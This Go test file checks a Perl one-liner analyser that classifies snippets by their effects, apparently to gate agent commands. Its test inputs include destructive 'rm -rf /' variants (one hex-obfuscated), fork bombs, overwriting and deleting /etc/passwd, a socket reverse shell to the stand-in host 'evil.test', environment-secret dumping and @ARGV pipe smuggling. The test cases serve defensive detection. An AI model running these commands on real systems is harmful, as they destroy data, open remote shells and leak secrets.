package perl

import (
	"os/exec"
	"strings"
	"testing"

	"automode/internal/mask"
	"automode/internal/understand/code"
)

func TestRead(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		// What a line is made of.
		{`s/foo/bar/g`, `nothing`},
		{`print if /x/`, `nothing`},
		{`$n++ if /^\s*$/; END { print "$n\n" }`, `nothing`},
		{`print "$F[0] $F[-1]\n" if $F[2] > 10`, `nothing`},
		{`s{(\d+)}{$1+1}e; s|a|b|; s,a,b,; s!a!b!; m#y#; tr/a-z/A-Z/; y/a/b/`, `nothing`},
		{`my %h; while(<>){ chomp; $h{$_}++ } print "$_ $h{$_}\n" for sort keys %h`, `nothing`},
		{`print join(",", map { $_*2 } grep { $_ % 2 } 1..10), "\n"`, `nothing`},
		{`local $/; $_=<STDIN>; s/a\nb/c/; print`, `nothing`},
		{`@l = sort { $a <=> $b } @l; print "@l[0..2] $l[0]{x}->[1]\n"; print $#l + 1`, `nothing`},
		{`use JSON::PP; my $d = decode_json(join '', <STDIN>); print $d->{name}, "\n"; print scalar(@{$d->{items}})`, `nothing`},
		{`printf("%-10s %s\n", $F[0], $F[1]) if @F > 2; print STDERR "x"`, `nothing`},
		{`print unless $. == 1 || eof; if (/a/ .. /b/) { print }`, `nothing`},
		{`print "$1\n" while m{href="([^"]+)"}g`, `nothing`},
		{`eval { die "x" }; print $@ if $@`, `nothing`},
		{`print $ENV{HOME}`, `nothing`},
		{`use Time::Local; use Text::Wrap; print timelocal(0,0,0,1,0,124); print wrap("", "", <STDIN>)`, `nothing`},
		{`use Text::Wrap; sub wrap { unlink "a" } wrap()`, `Delete a`},
		{`sub unlink { print "x" } unlink "a"`, `Delete a`}, {`sub max { unlink "a" } max()`, `Delete a`},
		// Which piece is meant.
		{`my %h = (a => "x"); open(my $o, ">", (%h)[1])`, `Write x`}, {`open(my $o, ">", ["x"])`, `Write …`}, {`my $r = \"a"; open(F, ">$r")`, `Run[line] >…; ?`}, {`open(my $i, "<", \"a\nb"); print <$i>`, `nothing`},
		{`sub f { ("b", "c") } my ($q, $r) = (f(), "a"); open(my $o, ">", $r)`, `Write …; Write a; Write …`}, {`my ($q, $r) = ("b", "a"); open(my $o, ">", $r)`, `Write a`},
		{`sub g { open(my $o, ">", $_[1]) } g(split(/,/, "b,c"), "a")`, `Write …; Write …`}, {`sub g { my ($q, $r) = @_; open(my $o, ">", $r) } g(lc("b"), "a")`, `Write a`},
		{`my @l = (map({ "m$_" } 1, 2), "a"); unlink $l[1]`, `Delete …; Delete a; Delete …`},
		{`@l = ("a", "b"); mkdir @l`, `Write …`}, {`@l = ("a"); rename @l, "b"`, `Delete{relocated} …/**; Write b`},
		// How it is written, and when it is run.
		{`unlink q/..\/a/, q(b\)), q(c\'d), (qw{e\} f})[0]`, `Delete ../a; Delete b); Delete c\'d; Delete e}`}, {`$_ = "x"; s/x/unlink "a\/b"/e`, `Delete a/b`},
		{`my $x = "a"; END { unlink $x } $x = "b"`, `Delete …`}, {`my $x = "a"; BEGIN { unlink $x . "b" }`, `Delete …b`}, {`$x = "a"; BEGIN { $x = "b" } unlink $x`, `Delete a; Delete …`},
		{`my $x = "a"; if ((my $x = "b")) { print } unlink $x`, `Delete a`}, {`my $x = "a"; s/y/$x = "b"/e; unlink $x`, `Delete a; Delete b`},
		{`use File::Path; make_path("a", "b", { mode => 0700 }); mkpath("c", 0, 0755)`, `Write a; Write b; Write c`},
		// What may not be done, or not a second time.
		{`my $x = "a"; eval { die; $x = "b" }; unlink $x`, `Delete a; Delete b`}, {`my $x = "a"; { last; $x = "b" } unlink $x`, `Delete a; Delete b`},
		{`sub f { state $x = "a"; unlink $x; $x = "b" } f(); f()`, `Delete …; Delete a`}, {`my $x = "a"; my $y = \$x; for ($$y) { $_ = "b" } unlink $x`, `Delete a; ?`},
		{`if (-e "q") { $x = "a" } open(my $o, ">", "${x}b")`, `Read{listing} q; Write ab; Write b; Write …b`},
		// What is the same again behind a loop or a block.
		{`for (qw(a b)) { print } unlink $_`, `Delete …`}, {`my $x = "a"; foreach $x ("b") { unlink $x } rmdir $x`, `Delete b; Delete a`}, {`my @m = map { "$_.n" } "a"; unlink $_`, `Delete …`},
		{`{ local $_ = "a"; unlink $_ } unlink $_`, `Delete a; Delete …`}, {`our $x = "a"; sub f { unlink $x } { local $x = "b"; f() } rmdir $x`, `Delete …; Delete a`},
		{`$x = "a"; our $x; unlink $x`, `Delete a; Delete …`}, {`my $y = do { local $_ = "a"; s/a/b/; $_ }; my $z = do { local $x = "c"; $x }; unlink $z`, `Delete c; Delete …`},
		// What is printed otherwise than it is written.
		{`open(my $o, ">", 0400 . "a")`, `Write …a`}, {`my $n = 1.50; open(my $o, ">", "a$n")`, `Write a…`}, {`open(my $o, ">", 1.5 . "a")`, `Write 1.5a`},
		{`open(my $o, ">", "a$^W")`, `Write a…`}, {`open(my $o, ">", "a$]b")`, `Write a…b`}, {`open(my $o, ">", "a$#l")`, `Write a…`},
		// Files.
		{`open my $fh, '<', 'a.txt' or die $!; while (my $l = <$fh>) { print $l } close $fh`, `Read a.txt`},
		{`open(my $o, '>', "/etc/passwd"); print $o "x"`, `Write /etc/passwd`},
		{`open(F, ">>x"); print F "x"`, `Write x`},
		{`unlink "/etc/passwd", "b"`, `Delete /etc/passwd; Delete b`},
		{`rename "a", "b"; mkdir "c"; symlink "d", "e"`, `Delete{relocated} a/**; Write b; Write c; Read{listing} d; Write e`},
		{`chmod 0777, "/etc/passwd"`, `Run[words] chmod 777 /etc/passwd`},
		// Commands.
		{`system("rm -rf /")`, `Run[line] rm -rf /`},
		{`system "rm", "-rf", "/"`, `Run[words] rm -rf /`},
		{"print `rm -rf /`; qx(ls)", `Run[line] rm -rf /; Run[line] ls`},
		{`$c = "rm -rf /"; system($c)`, `Run[line] rm -rf /; Run[line] …`},
		{`system("\x72\x6d -rf /")`, `Run[line] rm -rf /`},
		{`open(F, "rm -rf / |"); print <F>`, `Run[line] rm -rf /`},
		{`open(F, "| sh"); print F "x"`, `Run[line] cat | { sh ; }`},
		{`open(F, "-|", "rm", "-rf", "/")`, `Run[words] rm -rf /`},
		{`s/x/system("rm -rf \/")/e`, `Run[line] rm -rf /`},
		{`print "@{[ system('rm -rf /') ]}"`, `Run[line] rm -rf /`},
		{`sub f { my ($x) = @_; system($x) } f("rm -rf /")`, `Run[line] rm -rf /`},
		{`BEGIN { system("rm -rf /") }`, `Run[line] rm -rf /`},
		{`$SIG{ALRM} = sub { system("rm -rf /") }; alarm 1`, `Run[line] rm -rf /`},
		{`fork while 1`, `Control{halts} itself`},
		{`fork while fork`, `Control{halts} itself`},
		{`while (1) { fork }`, `Control{halts} itself`},
		{`use Socket; socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp")); connect(S,sockaddr_in(1234,inet_aton("evil.test"))); open(STDIN,">&S"); exec("/bin/sh -i")`,
			`Send evil.test:1234; Run[line] cat | { /bin/sh -i ; }; Expose{tunnel} evil.test:1234`},
		{`print "$_=$ENV{$_}\n" for keys %ENV`, `Disclose variables that hold secrets`},
		{`eval "system('rm -rf /')"`, `Run[text perl] system('rm -rf /'); ?`},
		{`use MIME::Base64; eval decode_base64("xx")`, `Run[text perl] …; ?`},
		{`require "./x.pl"`, `Run[file perl] ./x.pl`},
		{`unlink`, `Delete …`},
		{`$_ = "/etc/x"; s/a/b/; unlink`, `Delete …`},
		{`my $f = "/tmp/a"; for ($f) { s/tmp/etc/ } unlink $f`, `Delete …`},
		{`my $f = "/tmp/a"; map { s/tmp/etc/ } $f; unlink $f`, `Delete …`},
		{`my @l = ("/tmp/a"); s/tmp/etc/ for @l; unlink @l`, `Delete …`},
		{`@a = ("/tmp/x"); for (1..2) { unlink $a[0]; unshift @a, "/" }`, `Delete …`},
		// What is not followed.
		{`sub g { $_[0] =~ s/a/b/ } my $f = "/tmp/a"; g($f); unlink $f`, `Delete /tmp/a; ?`},
		{`sub g { s/a/b/ for @_ } my $f = "/tmp/a"; g($f); unlink $f`, `Delete /tmp/a; ?`},
		{`my $f = "/tmp/a"; read(STDIN, $f, 10); unlink $f`, `Delete /tmp/a; ?`},
		{`@ARGV = ("rm -rf /|"); while(<>){}`, `?`},
		{`push @ARGV, "id|"; while(<>){}`, `?`},
		{`s/$/|/ for @ARGV; while(<>){}`, `?`},
		{`my $a = \@ARGV; push @$a, "id|"`, `?`},
		{`$ARGV[0] = "id|"`, `?`},
		{`local @ARGV = ("id|"); <>`, `?`},
		{`my $f = "system"; &$f("id")`, `?`},
		{`*f = \&system; f("id")`, `?`},
		{`"system"->("id")`, `?`},
		{`/(?{ system("x") })/`, `?`},
		{`s/x/y/ee`, `?`},
		{`use Foo; Foo->bar`, `Run Foo; ?`},
		{`unshift @INC, "x"; require Foo`, `Run Foo; ?`},
		{`tie my $x, "Foo"`, `?`},
		{"print <<E;\nx\nE\n", `?`},
		{"1;\n=pod\n\nsystem 'x'\n\n=cut\n", `?`},
		{`lc /x/`, `?`},
		{`my $r = sub { $_[0] = "x" }`, `?`},
		{`open(F, $x)`, `Run[line] …; ?`},
	} {
		r := Read(c.text, code.Setting{Home: "/home/dev", Secret: mask.SecretName})
		if got := r.String(); got != c.want {
			t.Errorf("%s\n got %s\nwant %s\n(%s)", c.text, got, c.want, r.Why)
		}
	}
}

// What was understood and does nothing, Perl itself takes for a program.
func TestPerlReadsIt(t *testing.T) {
	perl, err := exec.LookPath("perl")
	if err != nil {
		t.Skip("perl is not installed")
	}
	for _, text := range harmless {
		if r := Read(text, code.Setting{Home: "/home/dev", Secret: mask.SecretName}); !r.Whole || len(r.Facts) > 0 {
			t.Errorf("%s\nis not understood as harmless: %s", text, r)
			continue
		}
		cmd := exec.Command(perl, "-c", "-e", text)
		cmd.Dir = t.TempDir()
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Errorf("%s\n%v: %s", text, err, out)
		}
	}
}

// harmless are programs as agents write them to look at text.
var harmless = []string{
	`s/foo/bar/g`, `print if /x/`, `$n++ if /^\s*$/; END { print "$n\n" }`, `print "$F[0] $F[-1]\n" if $F[2] > 10`,
	`s{(\d+)}{$1+1}e; s|a|b|; s,a,b,; s!a!b!; m#y#; tr/a-z/A-Z/; y/a/b/`,
	`my %h; while(<>){ chomp; $h{$_}++ } print "$_ $h{$_}\n" for sort keys %h`,
	`print join(",", map { $_*2 } grep { $_ % 2 } 1..10), "\n"; print +(split /,/)[1]; my ($a, $b) = split; print $b/$a`,
	`local $/; $_=<STDIN>; s/a\nb/c/; print; undef $/; my $s = do { local $/; <STDIN> }; print length $s`,
	`@l = sort { $a <=> $b } @l; print "@l[0..2] $l[0]{x}->[1] \$x a\@b.c\n"; print $#l + 1`,
	`my $d = {a => [1, {b => 2}], 'c' => sub { 1 }}; print $d->{a}[1]{b}, scalar(@{$d->{a}}), "@{$d->{a}}", ref $d`,
	`printf("%-10s %s\n", $F[0], $F[1]) if @F > 2; print STDERR "x"`,
	`print unless $. == 1 || eof; if (/a/ .. /b/) { print } elsif (/c/) { next } else { last }`,
	`print "$1\n" while m{href="([^"]+)"}g; print $& if s/(\w+)/\u$1/gr =~ /x/`,
	`eval { die "x" }; print $@ if $@; warn "y" unless defined $x and length($x) > 1 or not $y`,
	`foreach my $i (reverse 0..3) { print $i, $i % 2 ? "odd" : "even", "\n" } for (my $i = 0; $i < 3; $i++) { print $i }`,
	`my $t = time; print scalar(localtime($t)), lc("A") . uc 'b', sprintf("%.2f", 3.14159), "=" x 20, "\n"`,
	`(my $x = $_) =~ s/a/b/; print $x; my @w = ($x =~ /(\w+)/g); print scalar @w; print substr($x, 0, 3), index($x, "a")`,
	`use strict; use warnings; use List::Util qw(sum max); my @n = (1, 2); print sum(@n), max @n; my %s = map { $_ => 1 } @n; print join ",", keys %s`,
}

// FuzzRead: no text stops the reader or keeps it busy, and one that was not
// understood says why.
func FuzzRead(f *testing.F) {
	for _, s := range []string{
		`my %h = (a => [1, {b => 2}]); for my $k (sort { $h{$a} <=> $h{$b} } keys %h) { printf "%s %s\n", $k, $h{$k}->[1]{b} // 0 }`,
		`s{(\w+)}{ uc $1 }gex; tr/a/b/; m/$x[0]/; "@{[ map { $_ } 1 ]} ${\ f()} $$x $#{$y}"; print {$fh} qw(a b)`,
		`open my $f, '<', shift or die; while (<$f>) { next unless /^a/ .. /^b/; last if eof } <<>>; <*.c>`,
		"`a`; qx{b}; eval { 1 } or do { 2 }; -e $f && -d _; return unless defined wantarray",
		strings.Repeat("(", 300), strings.Repeat("{", 300), strings.Repeat(`"@{[`, 100), strings.Repeat("!", 300),
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > 4096 {
			return
		}
		r := Read(s, code.Setting{})
		if r.Whole != (r.Why == "") {
			t.Errorf("whole %t, but %q", r.Whole, r.Why)
		}
	})
}

// What is nested too deep is not understood, and is read in no time.
func TestDepth(t *testing.T) {
	for _, s := range []string{"(", "[", "{", `"@{[`, "!", "\\", "$$", "${", "f(", "if(1){", "$x{", "-", "sub {", "map {", "a?b:", "s/x/", "my("} {
		if r := Read(strings.Repeat(s, code.MaxText/len(s)), code.Setting{}); r.Whole {
			t.Errorf("%s…: it was understood", s)
		}
	}
}
